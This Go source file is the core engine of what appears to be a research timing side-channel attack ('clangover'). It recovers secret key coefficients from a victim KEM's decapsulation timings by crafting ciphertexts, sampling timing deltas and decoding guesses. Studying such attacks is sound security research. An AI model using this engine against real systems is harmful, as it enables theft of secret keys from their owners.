package attack

import (
	"fmt"
	"io"
	"time"

	"github.com/rs/zerolog"

	"github.com/antoonpurnal/clangover/utils/sampling"
)

// Option is a functional option for configuring an Engine.
type Option func(*Engine)

// WithPRNG sets the source of the class draws. Defaults to crypto/rand.
func WithPRNG(prng io.Reader) Option {
	return func(e *Engine) {
		e.prng = prng
	}
}

// WithDecoder replaces the [DefaultDecoder].
func WithDecoder(d *Decoder) Option {
	return func(e *Engine) {
		e.decoder = d
	}
}

// WithObserver sets the Observer notified of epochs and finalized coefficients.
func WithObserver(o Observer) Option {
	return func(e *Engine) {
		e.observer = o
	}
}

// WithLogger sets the logger. Defaults to a disabled logger.
func WithLogger(log *zerolog.Logger) Option {
	return func(e *Engine) {
		e.log = log
	}
}

// Engine recovers secret coefficients one at a time from the decapsulation
// timings of a Victim. It is strictly sequential and not safe for concurrent use.
type Engine struct {
	params   Parameters
	victim   Victim
	clock    Clock
	prng     io.Reader
	decoder  *Decoder
	observer Observer
	log      *zerolog.Logger

	crafter *Crafter
	sampler *Sampler
}

// NewEngine creates a new Engine. It returns an error if the victim's module rank
// differs from params.Rank or if the reference ciphertext cannot be encoded.
func NewEngine(params Parameters, victim Victim, clock Clock, opts ...Option) (*Engine, error) {

	e := &Engine{
		params:   params,
		victim:   victim,
		clock:    clock,
		decoder:  DefaultDecoder,
		observer: NopObserver{},
	}

	for _, opt := range opts {
		opt(e)
	}

	if e.log == nil {
		nop := zerolog.Nop()
		e.log = &nop
	}

	if e.prng == nil {
		prng, err := sampling.NewPRNG()
		if err != nil {
			return nil, fmt.Errorf("cannot NewEngine: %w", err)
		}
		e.prng = prng
	}

	kem := victim.Parameters()
	if kem.K() != params.Rank() {
		return nil, fmt.Errorf("cannot NewEngine: victim %s has module rank %d but the attack is configured for %d", victim.Name(), kem.K(), params.Rank())
	}

	e.crafter = NewCrafter(kem)

	reference, err := e.crafter.Reference()
	if err != nil {
		return nil, fmt.Errorf("cannot NewEngine: %w", err)
	}

	e.sampler = NewSampler(victim, clock, e.prng, reference)

	return e, nil
}

// Parameters returns the attack parameters.
func (e *Engine) Parameters() Parameters {
	return e.params
}

// Run recovers the coefficients [Start, Start+Count) in order. On a victim
// failure it returns the results finalized so far together with the error.
func (e *Engine) Run() (*Results, error) {

	results := NewResults(e.params)
	start := time.Now()

	e.log.Info().
		Str("victim", e.victim.Name()).
		Int("start", e.params.Start()).
		Int("count", e.params.Count()).
		Msg("Starting attack")

	for index := e.params.Start(); index < e.params.Start()+e.params.Count(); index++ {

		res, err := e.Recover(index)
		if err != nil {
			results.Elapsed = time.Since(start)
			e.log.Error().Err(err).Int("coefficient", index).Msg("Attack aborted")
			return results, fmt.Errorf("cannot Run: %w", err)
		}

		results.finalize(res)
		e.observer.Finalized(res)

		e.log.Info().
			Int("coefficient", index).
			Str("guess", res.Guess.String()).
			Str("state", res.State.String()).
			Int("iterations", res.Iterations).
			Uint64("discarded", res.Discarded).
			Int("confidence", res.Confidence).
			Bool("extended", res.Extended).
			Dur("elapsed", res.Elapsed).
			Msg("Coefficient finalized")
	}

	results.Elapsed = time.Since(start)

	return results, nil
}

// coefficientState is the per-coefficient arena: it is created when a coefficient
// is started and dropped when it is finalized.
type coefficientState struct {
	index      int
	stats      *Statistics
	controller *Controller
	pattern    Pattern
}

// Recover runs the sampling of coefficient index until the controller leaves the
// Sampling state and returns its final guess.
func (e *Engine) Recover(index int) (res Result, err error) {

	start := time.Now()

	classes, err := e.crafter.Craft(index)
	if err != nil {
		return res, fmt.Errorf("cannot Recover: %w", err)
	}
	if err = e.sampler.Load(classes); err != nil {
		return res, fmt.Errorf("cannot Recover: %w", err)
	}

	st := &coefficientState{
		index:      index,
		stats:      NewStatistics(e.params.OutlierThreshold()),
		controller: NewController(e.params),
	}

	for st.controller.State() == Sampling {

		class, delta, err := e.sampler.Sample()
		if err != nil {
			return res, fmt.Errorf("cannot Recover coefficient %d: %w", index, err)
		}

		st.stats.Update(class, delta)

		if st.controller.EvaluationDue() {
			e.evaluate(st)
		}

		st.controller.Advance()
	}

	return Result{
		Index:      index,
		Guess:      st.controller.Guess(),
		State:      st.controller.State(),
		Iterations: st.controller.Iteration(),
		Epochs:     st.controller.Epochs(),
		Discarded:  st.stats.Discarded(),
		Confidence: st.controller.Confidence(),
		Extended:   st.controller.Extended(),
		Ceiling:    st.controller.Ceiling(),
		Pattern:    st.pattern,
		Means:      st.stats.Means(),
		Elapsed:    time.Since(start),
	}, nil
}

// evaluate classifies the current means, decodes the pattern and feeds the guess
// to the controller.
func (e *Engine) evaluate(st *coefficientState) {

	means := st.stats.Means()
	st.pattern = Classify(means)
	guess := e.decoder.Decode(st.pattern, st.index)
	st.controller.Observe(guess)

	e.log.Debug().
		Int("coefficient", st.index).
		Int("iteration", st.controller.Iteration()).
		Str("pattern", st.pattern.String()).
		Str("guess", guess.String()).
		Int("confidence", st.controller.Confidence()).
		Uint64("discarded", st.stats.Discarded()).
		Msg("Epoch")

	e.observer.Epoch(Snapshot{
		Index:      st.index,
		Iteration:  st.controller.Iteration(),
		Discarded:  st.stats.Discarded(),
		Confidence: st.controller.Confidence(),
		Means:      means,
		Counts:     st.stats.Counts(),
		Pattern:    st.pattern,
		Guess:      guess,
		Print:      st.controller.PrintDue(),
	})
}
